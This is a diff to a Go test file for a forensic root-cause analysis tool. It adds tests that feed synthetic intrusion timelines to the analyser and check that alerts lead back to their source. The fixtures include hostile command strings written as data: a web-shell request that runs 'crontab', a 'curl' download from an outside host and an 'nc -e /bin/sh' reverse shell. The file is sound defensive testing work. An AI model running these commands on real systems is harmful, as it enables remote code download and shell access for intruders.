@@ -1,10 +1,13 @@
 package rootcause_test
 
 import (
+	"errors"
 	"testing"
 	"time"
 
+	"github.com/exhibit-dfir/exhibit/analyze/rootcause"
 	"github.com/exhibit-dfir/exhibit/timeline"
+	"github.com/exhibit-dfir/exhibit/timeline/store/memory"
 )
 
 const outside = "203.0.113.7"
@@ -215,5 +218,139 @@ func TestWithoutAuditRecordsSudoLinesAndFileTimesLeadToTheLogin(t *testing.T) {
 	why := ask(t, s)
 	for _, alert := range []*timeline.Event{sudo, file, run} {
 		firstEntry(t, why(alert), "password guessing", "karl", outside)
+	}
+}
+
+func TestWithoutAuditRecordsAWebShellLeadsToItsUploader(t *testing.T) {
+	s := tell(t, "shop2")
+	s.audit = false
+	s.boot()
+	s.after(time.Hour)
+	for range 40 {
+		s.request("10.0.0.90", "GET", "http://shop/index.html")
+		s.request("10.0.0.91", "GET", "http://shop/img/logo.png")
+		s.after(7 * time.Second)
+	}
+	s.request(outside, "POST", "http://shop/upload.php")
+	s.stat("/var/www/html/img/x.php", "www-data")
+	s.after(30*time.Second).request("10.0.0.90", "GET", "http://shop/index.html")
+	s.request(outside, "GET", "http://shop/img/x.php?c=crontab")
+	table := s.stat("/var/spool/cron/crontabs/www-data", "www-data")
+	s.request("10.0.0.91", "GET", "http://shop/index.html")
+	run := s.after(time.Minute).cron("www-data", "/tmp/.x/kswap")
+	why := ask(t, s)
+	firstEntry(t, why(table), "web request", "", outside)
+	firstEntry(t, why(run), "web request", "", outside)
+}
+
+func TestLiveProcessLeadsToTheSessionItCarries(t *testing.T) {
+	s := tell(t, "live1")
+	s.audit = false
+	s.boot()
+	s.after(time.Hour)
+	s.login("carol", "10.0.0.77", "publickey", "SHA256:carol", 4)
+	for range 10 {
+		s.fail("luke", outside)
+	}
+	s.login("luke", outside, "password", "", 5)
+	s.after(time.Minute)
+	p := s.event("linux:process:state", "process-started")
+	p.PID, p.PPID, p.Session, p.Exe, p.Cmdline, p.User = 4711, 1, "5", "/dev/shm/.k (deleted)", "/dev/shm/.k", "luke"
+	s.after(time.Hour)
+	sock := s.event("linux:socket:state", "socket-state")
+	sock.PID, sock.Exe, sock.SrcIP, sock.SrcPort, sock.DstIP, sock.DstPort = 4711, "/dev/shm/.k", "10.0.0.5", 44000, "198.51.100.9", 443
+	why := ask(t, s)
+	firstEntry(t, why(p), "password guessing", "luke", outside)
+	firstEntry(t, why(sock), "password guessing", "luke", outside)
+}
+
+func TestHistoryLinesLeadToTheSessionOfTheirAccount(t *testing.T) {
+	s := tell(t, "hist1")
+	s.audit = false
+	s.boot()
+	s.after(time.Hour)
+	s.login("mike", "198.51.100.90", "password", "", 6)
+	s.after(time.Minute)
+	h := s.event("bash:history:entry", "command-entered")
+	h.User, h.Cmdline = "mike", "curl -O http://203.0.113.9/kd"
+	firstEntry(t, ask(t, s)(h), "remote login", "mike", "198.51.100.90")
+}
+
+func TestProcessNumberUsedAgainIsAnotherProcess(t *testing.T) {
+	s := tell(t, "pid1")
+	s.boot()
+	s.after(time.Hour)
+	_, old := s.login("carol", "10.0.0.77", "publickey", "SHA256:carol", 3)
+	reused := old.PID
+	s.after(5 * time.Hour)
+	for range 9 {
+		s.fail("nina", outside)
+	}
+	_, sh := s.login("nina", outside, "password", "", 4)
+	mid := s.exec(sh, "/usr/bin/bash", "bash")
+	mid.PID = reused
+	evil := s.exec(mid, "/usr/bin/nc", "nc -e /bin/sh 198.51.100.4 1")
+	firstEntry(t, ask(t, s)(evil), "password guessing", "nina", outside)
+}
+
+func TestUnknownEventIsAnErrorAndNoCauseIsNoEntry(t *testing.T) {
+	s := tell(t, "none1")
+	ev := s.event("syslog:line", "")
+	ev.Message = "something"
+	g := ask(t, s)(ev)
+	if len(g.Entries) != 0 || len(g.Gaps) == 0 {
+		t.Errorf("an event without a cause has entries %v and gaps %v", g.Entries, g.Gaps)
+	}
+	var none timeline.ID
+	if _, err := rootcause.Why(t.Context(), memory.New(s.events), []timeline.ID{none}, rootcause.Options{}); !errors.Is(err, rootcause.ErrNoAlert) {
+		t.Errorf("unknown event: %v", err)
+	}
+}
+
+func TestBoundsHold(t *testing.T) {
+	s, alert := intrusion(t)
+	eng := memory.New(s.events)
+	for _, opt := range []rootcause.Options{{MaxEdges: 3}, {MaxDepth: 2}, {MaxNodes: 2}, {MaxFacts: 10}, {Horizon: time.Minute}} {
+		g, err := rootcause.Why(t.Context(), eng, []timeline.ID{alert.ID}, opt)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if opt.MaxEdges > 0 && len(g.Edges) > opt.MaxEdges {
+			t.Errorf("%d edges, at most %d were asked for", len(g.Edges), opt.MaxEdges)
+		}
+	}
+}
+
+func TestInferredEdgesNeverOutweighOthers(t *testing.T) {
+	s, alert := intrusion(t)
+	g := ask(t, s)(alert)
+	best := map[int]float64{}
+	for _, e := range g.Edges {
+		if e.Class != rootcause.Inferred && e.Score > 0 {
+			best[e.To] = max(best[e.To], e.Score)
+		}
+	}
+	for _, e := range g.Edges {
+		if b, ok := best[e.To]; ok && e.Class == rootcause.Inferred && e.Score > b {
+			t.Errorf("%s outweighs a better edge: %.2f > %.2f", e.Rule, e.Score, b)
+		}
+	}
+}
+
+func TestEverySentenceCitesEventsOfTheCase(t *testing.T) {
+	s, alert := intrusion(t)
+	known := map[timeline.ID]bool{}
+	for _, ev := range s.events {
+		known[ev.ID] = true
+	}
+	for _, line := range ask(t, s)(alert).Narrative {
+		if len(line.Events) == 0 {
+			t.Errorf("nothing cited: %s", line.Text)
+		}
+		for _, id := range line.Events {
+			if !known[id] {
+				t.Errorf("%s cites the unknown event %s", line.Text, id)
+			}
+		}
 	}
 }
